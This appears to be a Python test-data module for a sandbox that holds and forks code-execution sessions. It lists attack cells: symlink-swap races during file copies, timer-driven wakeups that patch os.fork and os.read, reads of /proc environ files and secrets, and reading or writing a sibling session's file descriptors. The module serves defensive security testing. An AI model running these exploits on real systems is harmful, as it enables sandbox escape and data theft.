"""Attacks on held sessions as data: a cell whose state goes on, and the cells that branch from it.

`RACES` win against the clock and are tried many times; `session_spoilers.py` and
`session_breakers.py` have more, which do not. Each program says in its first line what it does.
Names in angle brackets are filled in by `session_targets.py`. The programs patch, fork and wait as
any Python code can. `looks` are cells that run from the state after `cell`; what they print must
show no canary, no breach word, and nothing of a sibling.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One cell, and cells that start from the state after it, in this order."""

    name: str
    cell: str
    looks: tuple[str, ...] = ()
    wait_s: float = 0.01  # before each look, for what goes on meanwhile
    same: bool = False  # what the looks print must be what a replay prints


# Prints all that can be found of others: in files, in the environment, on the network.
REACH = """
import os, socket
def read(name):
    try: return open(name, "rb").read(200)
    except OSError as error: return type(error).__name__
def connect():
    try: return socket.create_connection(("127.0.0.1", <PORT>), 1)
    except OSError as error: return type(error).__name__
print([read(name) for name in sorted(os.listdir("."))][:70])
print(read("<SECRET>"), read("<HOME>"), read("<OUTSIDE>/f0"), dict(os.environ), connect())
print([read(f"/proc/{pid}/environ") for pid in (1, 2, "self", <PARENT>)])
"""
FILES = "import os\nprint({open(name).read()[:99] for name in os.listdir('.') if name[0] == 'f'})"
SEEN = "print(sorted(set(seen))[:9] if 'seen' in globals() else 'nothing')"

# Whatever the holding process calls next ends up in `tick`, again and again; a timer that a stopped
# process hears wakes it. Its own question is answered when it comes, so that it can be branched.
AWAKE = """
import ctypes, os, select, signal, struct, time
libc = ctypes.CDLL(None)
real_read, real_fork, armed, seen, timers = os.read, os.fork, [0], [], []
signal.signal(signal.SIGCONT, lambda *_: None)
period = 7_000_000
def start(timer, nanoseconds):
    libc.timer_settime(timer, 0, struct.pack("=4q", 0, nanoseconds, 0, nanoseconds), None)
def arm():
    event = ctypes.create_string_buffer(struct.pack("=qii48x", 0, 18, 0))
    timers.clear()
    for number in range(2):
        timer = ctypes.c_void_p()
        if not libc.timer_create(1, event, ctypes.byref(timer)):
            timers.append(timer)
            start(timer, period + 1_000_000 * number)
def read(fd, size):
    if armed[0] != forks[0]:
        armed[0] = forks[0]
        arm()
    while not select.select([fd], [], [], 0)[0]:
        tick()
        time.sleep(0.0002)
    return real_read(fd, size)
forks = [1]
def fork():
    for timer in timers: start(timer, 0)
    forks[0] += 1
    return real_fork()
os.read, os.fork = read, fork
"""

# A second process goes on while the one that reported itself is stopped, until the access time of
# the first or last of many entries says that somebody copies them; then it swaps the others. The
# state itself is forked once, where the sandbox forks twice: it consents to no more.
SECOND = """
import os, time
real_fork, real_wait, calls = os.fork, os.waitpid, []
names = [f"f{n:03}" for n in range(120)]
def begin(count):
    time.sleep(0.012)
    try:
        if real_fork(): return
    except OSError: return
    read = [os.stat(name).st_atime_ns for name in (names[0], names[-1])]
    until = time.monotonic() + 1.0
    while time.monotonic() < until:
        if os.stat(names[0]).st_atime_ns != read[0]:
            names.reverse()
            break
        if os.stat(names[-1]).st_atime_ns != read[1]: break
    for name in names[1 : count + 1]:
        try: swap(name)
        except OSError: pass
    time.sleep(0.5)
    os._exit(0)
def fork():
    calls.append(1)
    if len(calls) == 1: return real_fork()
    os.fork, os.waitpid = real_fork, real_wait
    return 0
def waitpid(*arguments): return arguments
os.fork, os.waitpid = fork, waitpid
"""

RACES = [
    Attack(
        "a second process swaps files while they are copied",
        SECOND
        + """
# When the first file is read, the second process makes the others links to a secret, and whoever
# copies them copies what they name.
for name in names:
    with open(name, "w") as file: file.write("own")
def swap(name):
    os.symlink("<SECRET>", "link")
    os.rename("link", name)
begin(60)
""",
        (FILES,),
        wait_s=0.0,
    ),
    Attack(
        "a second process swaps a folder while it is copied",
        SECOND
        + """
# As above, with a folder whose name then leads to a folder of secrets.
for name in names:
    if name in (names[0], names[-1]): os.close(os.open(name, 66))
    else: os.mkdir(name)
def swap(name):
    os.rename(name, name + "was")
    os.symlink("<OUTSIDE>", name)
begin(8)
""",
        (
            """
import os
for n in os.listdir("."):
    if os.path.exists(n + "/f0"): print(open(n + "/f0").read())
""",
        ),
        wait_s=0.0,
    ),
    Attack(
        "a timer thaws the state, which leads a copy outside",
        AWAKE
        + """
# The state wakes itself, and makes its own file a link to one outside: what copies the files of a
# state back, writes there.
with open("f", "w") as file: file.write("<BREACH>")
def tick():
    try: os.symlink("<OUTSIDE>/f1", "f")
    except OSError: pass
""",
        ("print(x)",),
    ),
    Attack(
        "a timer thaws the state, which leads the copy of a folder outside",
        AWAKE
        + """
# The same with a folder: what copies the folder of a state back, writes where the link leads.
os.mkdir("sub")
with open("sub/f3", "w") as file: file.write("<BREACH>")
def tick():
    try: os.symlink("<OUTSIDE>/sub", "sub")
    except OSError: pass
""",
        ("print(x)",),
    ),
    Attack(
        "a timer thaws the state, which leads a deletion outside",
        AWAKE
        + """
# The state wakes itself, and fills the folder; when it is emptied, it swaps a folder for a link.
with open("mark", "w") as file: file.write("is there as long as the state is copied")
period = 3_000_000
def swap(name):
    try:
        os.rename(name, name + "was")
        os.symlink("<OUTSIDE>", name)
    except OSError: pass
def tick():
    if os.listdir("."): return
    os.mkdir("first")
    for n in range(900): os.close(os.open(f"a{n}", 66))
    os.mkdir("last")
    until = time.monotonic() + 1
    while time.monotonic() < until and os.path.exists("a20") and os.path.exists("a880"): pass
    swap("first")
    swap("last")
""",
        ("print(x)",),
        wait_s=0.04,
    ),
    Attack(
        "a timer thaws the state, which reads a sibling",
        AWAKE
        + """
# The state wakes itself while a sibling runs, and reads every descriptor that both have.
def tick():
    for fd in range(48):
        try: text = os.pread(fd, 1 << 16, 0)
        except OSError: continue
        if b"<SIBLING>" in text: seen.append((fd, "<SIBLING>"))
""",
        (SEEN,),
    ),
    Attack(
        "a timer thaws the state, which writes to a sibling",
        AWAKE
        + """
# The state wakes itself while a sibling runs, and writes into every descriptor that both have.
def tick():
    for fd in range(48):
        try: os.pwrite(fd, b"forged", 0)
        except OSError: pass
""",
        ("print(x)",),
    ),
]
